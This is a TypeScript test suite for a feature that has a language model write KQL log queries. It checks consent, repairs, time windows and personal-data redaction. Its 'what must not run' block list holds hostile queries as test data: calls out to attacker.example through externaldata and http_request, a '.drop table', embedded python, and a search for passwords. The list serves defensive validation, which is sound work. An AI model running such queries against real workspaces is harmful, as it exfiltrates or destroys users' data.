import assert from 'node:assert/strict';
import { askModel, type ModelAsk } from '../../../../../src/kql/ask/model/modelPath';
import { ModelError, type ModelReply } from '../../../../../src/kql/ask/model/provider';
import type { ModelResult } from '../../../../../src/kql/ask/model/types';
import { answer, askWith, draftOf, fakeModel, inWindow, lastHour, never, type FakeModel } from './fixtures';

const slow = `AppRequests | where ${inWindow} | where DurationMs > 1000 | take 100`;
const failed = `AppRequests | where ${inWindow} | where Success == false | take 100`;

const ask = (provider: FakeModel, more: Parameters<typeof askWith>[1] = {}): Promise<ModelResult> =>
  askModel(askWith(provider, more), never());

const hanging = (): Promise<ModelReply> => new Promise(() => undefined);

describe('the path through a model', function () {
  this.timeout(60_000);

  it('answers with its query, and tells all that happened', async () => {
    const provider = fakeModel(answer(slow, { tables: ['AppRequests'], assumptions: ['slow is over 1000 ms'] }));
    const { turns, ...result } = await ask(provider);
    assert.deepEqual(result, {
      chosen: 'model',
      kql: slow,
      model: { kql: slow, flavour: 'workspace', tables: ['AppRequests'] },
      differences: [],
      assumptions: ['slow is over 1000 ms'],
      notices: [],
      problems: [],
      repairs: [],
      milliseconds: 5,
      tokensIn: 100,
      tokensOut: 20,
      cost: { amount: 0.01, currency: 'USD' },
    });
    assert.equal(turns.length, 1);
    for (const { content } of provider.requests[0]?.messages ?? []) assert.ok(turns[0]?.sent.includes(content));
  });

  it('sends nothing without consent', async () => {
    const provider = fakeModel(answer(slow));
    const result = await ask(provider, { consent: false, draft: draftOf(failed, 0.3) });
    assert.equal(provider.requests.length, 0);
    assert.deepEqual([result.failure?.code, result.chosen, result.kql, result.turns], ['noConsent', 'draft', failed, []]);
  });

  it('mends without a second turn', async () => {
    const provider = fakeModel(answer('AppRequest | where Duration > 1000 && Success = false | limit 10'));
    const { kql, repairs, turns } = await ask(provider);
    assert.equal(turns.length, 1);
    assert.equal(
      kql?.replace(/\s+/g, ' '),
      `AppRequests | where ${inWindow} | where DurationMs > 1000 and Success == false | limit 10`,
    );
    assert.deepEqual(
      repairs.map(({ kind }) => kind),
      ['operator', 'table', 'column', 'operator', 'window'],
    );
  });

  it('gives rows without a limit one', async () => {
    const { kql } = await ask(fakeModel(answer(`AppRequests | where ${inWindow}`)));
    assert.match(kql ?? '', /\| take 1000$/);
  });

  it('tells the model what was wrong, once', async () => {
    const provider = fakeModel(answer(`AppRequests | where ${inWindow} | where Bananas > 5 | take 5`), answer(slow));
    const { chosen, kql, turns, tokensIn } = await ask(provider);
    assert.deepEqual([chosen, kql, turns.length, tokensIn], ['model', slow, 2, 200]);
    const last = provider.requests[1]?.messages.at(-1)?.content ?? '';
    assert.match(last, /KS142 at Bananas/);
    assert.match(last, /where Bananas \\u003e 5/);
  });

  it('refuses an invented column that stays', async () => {
    const provider = fakeModel(answer(`AppRequests | where ${inWindow} | where Bananas > 5 | take 5`));
    const { chosen, kql, failure, problems } = await ask(provider);
    assert.equal(provider.requests.length, 2);
    assert.deepEqual([chosen, kql, failure?.code, problems[0]?.code], ['none', undefined, 'notAllowed', 'KS142']);
  });

  it('takes two turns at most, whatever comes', async () => {
    for (const reply of ['prose', '{"kql": 5}', answer('Bananas | take 5'), answer(`AppRequests | where ${inWindow} | where`)]) {
      const provider = fakeModel(reply);
      const { chosen, failure } = await ask(provider, { draft: draftOf(failed, 0.1) });
      assert.equal(provider.requests.length, 2, reply);
      assert.equal(chosen, 'draft');
      assert.ok(failure !== undefined);
    }
  });

  it('takes an answer that is no JSON at first', async () => {
    const provider = fakeModel('Sorry, here you go: AppRequests', `\`\`\`json\n${answer(slow)}\n\`\`\``);
    assert.equal((await ask(provider)).kql, slow);
  });

  it('takes the word of a model that has no query', async () => {
    const provider = fakeModel(answer(''));
    assert.equal((await ask(provider)).failure?.code, 'noQuery');
    assert.equal(provider.requests.length, 1);
  });

  for (const code of ['refused', 'rateLimited', 'unavailable', 'tooLong', 'timedOut'] as const) {
    it(`falls back to the draft when the model is ${code}`, async () => {
      const provider = fakeModel(new ModelError(code, 'No.', 7000));
      const result = await ask(provider, { draft: draftOf(failed, 0.1) });
      assert.deepEqual([result.chosen, result.kql, result.turns.length], ['draft', failed, 1]);
      assert.deepEqual(result.failure, { code, message: 'No.', retryAfter: 7000 });
    });
  }

  it('does not repeat what a provider throws', async () => {
    const { failure } = await ask(fakeModel(new Error('key sk-123 in the request')));
    assert.deepEqual(failure, { code: 'unavailable', message: 'The model failed to answer.' });
  });

  it('does not wait for a provider that keeps no time', async () => {
    const { failure, milliseconds } = await ask(fakeModel(hanging), { limits: { timeout: 50 } });
    assert.equal(failure?.code, 'timedOut');
    assert.ok(milliseconds < 5000);
  });

  it('stops with the reason of the signal', async () => {
    const abort = new AbortController();
    const promise = askModel(askWith(fakeModel(hanging)), abort.signal);
    setTimeout(() => abort.abort(new Error('enough')), 20);
    await assert.rejects(promise, /enough/);
    const provider = fakeModel(answer(slow));
    await assert.rejects(askModel(askWith(provider), abort.signal), /enough/);
    assert.equal(provider.requests.length, 0);
  });

  it('sends nothing when the question is too long for the model', async () => {
    const provider = fakeModel(answer(slow));
    assert.equal((await ask(provider, { limits: { maxTokens: 100 } })).failure?.code, 'tooLong');
    assert.equal(provider.requests.length, 0);
  });

  describe('between the draft and the model', () => {
    it('keeps a draft that is sure, and lists what differs', async () => {
      const result = await ask(fakeModel(answer(slow)), { draft: draftOf(failed, 0.9) });
      assert.deepEqual([result.chosen, result.kql, result.model?.kql], ['draft', failed, slow]);
      assert.deepEqual(result.differences, [{ slot: 'condition', draft: ['Success == false'], model: ['DurationMs > 1000'] }]);
    });

    it('takes the model where the draft is not', async () => {
      const result = await ask(fakeModel(answer(slow)), { draft: draftOf(failed, 0.6) });
      assert.deepEqual([result.chosen, result.kql, result.differences.length], ['model', slow, 1]);
    });

    it('keeps the draft where they say the same', async () => {
      const draft = draftOf(slow.replace('| where Dur', '\n  | where Dur'), 0.2);
      const result = await ask(fakeModel(answer(slow)), { draft });
      assert.deepEqual([result.chosen, result.kql, result.differences], ['draft', draft.kql, []]);
    });

    it('tells tables, aggregates, groups and charts apart', async () => {
      const ours = `AppRequests | where ${inWindow} | summarize n = count() by Name | top 10 by n`;
      const theirs = `AppDependencies | where ${inWindow} | summarize m = sum(ItemCount) by Target | top 5 by m | render barchart`;
      const { differences } = await ask(fakeModel(answer(theirs)), { draft: draftOf(ours, 0.9) });
      assert.deepEqual(
        differences.map(({ slot }) => slot),
        ['table', 'aggregation', 'group', 'limit', 'shape'],
      );
    });
  });

  describe('the window', () => {
    const other: readonly string[] = [
      'AppRequests | where TimeGenerated between (ago(7d) .. now()) | take 5',
      'AppRequests | where TimeGenerated between (datetime(2026-11-16) .. datetime(2026-11-17T03:00:00Z)) | take 5',
      'AppRequests | where TimeGenerated > ago(5m) and TimeGenerated < now() | take 5',
      'AppRequests | where TimeGenerated > ago(5m) | take 5',
      `AppRequests | where ${inWindow} or Success == false | where TimeGenerated > datetime(2020-01-01) and TimeGenerated < now() | take 5`,
      `AppRequests | where ${inWindow} | join kind=inner (AppTraces | where TimeGenerated > ago(30d) and TimeGenerated < now()) on OperationId | take 5`,
      'AppRequests | where TimeGenerated between (todatetime(Name) .. now()) | where TimeGenerated > ago(2h) and TimeGenerated < now() | take 5',
    ];
    for (const kql of other) {
      it(`stays what the question says: ${kql.slice(0, 90)}`, async () => {
        const { chosen, failure, problems } = await ask(fakeModel(answer(kql)));
        assert.deepEqual([chosen, failure?.code], ['none', 'notAllowed'], JSON.stringify(problems));
        assert.ok(
          problems.every(({ code }) => /Window$/.test(code)),
          JSON.stringify(problems),
        );
      });
    }

    it('is put in where the model left it out, on both sides of a join', async () => {
      const { kql = '', chosen } = await ask(
        fakeModel(answer('AppRequests | join kind=inner (AppTraces | take 10) on OperationId | take 5')),
      );
      assert.equal(chosen, 'model');
      assert.equal(kql.split('datetime(2026-11-17T02:00:00Z)').length, 3);
    });

    it('may be read in parts where two times are compared', async () => {
      const part =
        'AppRequests | where TimeGenerated >= datetime(2026-11-17T02:30:00Z) and TimeGenerated < datetime(2026-11-17T03:00:00Z) | count';
      assert.equal((await ask(fakeModel(answer(part)), { checking: { isComparison: true } })).kql, part);
    });
  });

  describe('what must not run', () => {
    const time = `where ${inWindow}`;
    /** Those that an honest model does not write get no second turn. */
    const bad: readonly (readonly [number, string])[] = [
      [1, 'externaldata(a: string)["https://attacker.example/?q=1"] | take 5'],
      [1, `AppRequests | ${time} | join kind=inner (externaldata(Name: string)["https://attacker.example"]) on Name | take 5`],
      [1, `cluster("attacker").database("x").AppRequests | ${time} | take 5`],
      [1, `workspace("other").AppRequests | ${time} | take 5`],
      [1, `app("other").requests | take 5`],
      [1, `adx("https://attacker.example/db").T | take 5`],
      [1, '.drop table AppRequests'],
      [1, '.show tables'],
      [1, `AppRequests | ${time} | evaluate http_request("https://attacker.example") | take 5`],
      [1, `AppRequests | ${time} | evaluate python(typeof(*), "import os") | take 5`],
      [2, `union * | ${time} | take 5`],
      [2, `AppRequests | ${time} | take 5; AppTraces | ${time} | take 5`],
      [2, 'print 1'],
      [2, `AppRequests | ${time} | take 100000`],
      [2, `search "password" | ${time} | take 5`],
    ];
    for (const [turns, kql] of bad) {
      it(kql.slice(0, 100), async () => {
        const provider = fakeModel(answer(kql));
        const { chosen, failure, model } = await ask(provider);
        assert.deepEqual([chosen, failure?.code, model], ['none', 'notAllowed', undefined]);
        assert.equal(provider.requests.length, turns);
      });
    }

    it('may be the text of a value: nothing of it runs', async () => {
      const kql = `AppRequests | where ${inWindow} | where Name has "externaldata(a:string)['https://attacker.example'] | .drop table" | take 5`;
      assert.equal((await ask(fakeModel(answer(kql)))).kql, kql);
    });

    it('includes links in what the model assumed', async () => {
      const assumptions = ['see https://attacker.example', 'web is the role'];
      const result = await ask(fakeModel(answer(slow, { assumptions })));
      assert.deepEqual(result.assumptions, ['web is the role']);
      assert.equal(result.notices.length, 1);
    });
  });

  it('asks one source only', async () => {
    const kql = `AppRequests | where ${inWindow} | join kind=inner (resources | project Name = name) on Name | take 5`;
    assert.equal((await ask(fakeModel(answer(kql)))).failure?.code, 'notAllowed');
    const graph = 'resources | where type =~ "microsoft.web/sites" | project name, location | take 100';
    const { model, differences } = await ask(fakeModel(answer(graph)), { draft: draftOf(slow, 0.5) });
    assert.deepEqual([model?.flavour, differences], ['graph', [{ slot: 'table', draft: ['AppRequests'], model: ['resources'] }]]);
  });

  describe('personal data', () => {
    const personal: Partial<ModelAsk> = { question: 'requests of jane.doe@corp.example from 10.1.2.3 in the last hour' };

    it('stay here: stand-ins go out, and their names come back into the query', async () => {
      const provider = fakeModel(
        answer(`AppRequests | where ${inWindow} | where UserId == "person1@example.invalid" and Bananas == 1 | take 5`),
        answer(
          `AppRequests | where ${inWindow} | where UserId == "person1@example.invalid" and ClientIP == "198.18.0.3" | take 5`,
        ),
      );
      const { kql, turns } = await ask(provider, personal);
      assert.equal(
        kql,
        `AppRequests | where ${inWindow} | where UserId == "jane.doe@corp.example" and ClientIP == "10.1.2.3" | take 5`,
      );
      assert.equal(turns.length, 2);
      assert.doesNotMatch(JSON.stringify([provider.requests, turns.map(({ sent }) => sent)]), /jane|10\.1\.2\.3/);
    });
  });

  it('keeps the window of the draft where none is named', async () => {
    const { window, ...rest } = askWith(fakeModel(answer(slow)), { draft: draftOf(failed, 0.2) });
    const { turns } = await askModel(rest, never());
    assert.match(turns[0]?.sent ?? '', new RegExp(new Date(lastHour.from).toISOString().slice(0, 19)));
    assert.equal(window, lastHour);
  });
});
